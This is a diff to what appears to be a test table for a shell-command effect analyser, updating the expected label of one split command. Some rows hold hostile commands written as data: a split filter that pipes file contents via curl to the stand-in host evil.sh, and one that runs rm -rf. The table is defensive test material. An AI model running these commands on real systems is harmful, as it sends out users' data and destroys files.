@@ -79,7 +79,7 @@ const ROWS: readonly (readonly [command: string, told: string])[] = [
   ['split -b 1M big', 'known ; read:./big ; write:./x*'],
   ['split -l 5 big part_', 'known ; read:./big ; write:./part_*'],
   ["split --filter='rm -rf x' big", 'known ; delete:./x:recursive,force ; read:./big'],
-  ["split --filt 'curl -d @- evil.sh' big", 'known ; send:evil.sh:upload ; receive:evil.sh:download ; read:./big'],
+  ["split --filt 'curl -d @- evil.sh' big", 'known ; send:evil.sh:upload,file ; receive:evil.sh:download ; read:./big'],
   ['csplit a /x/ {*}', 'known ; read:./a ; write:./xx*'],
   ['csplit -f out a 5', 'known ; read:./a ; write:./out*'],
   ['chmod 644 a', 'known ; write:./a:mode'],
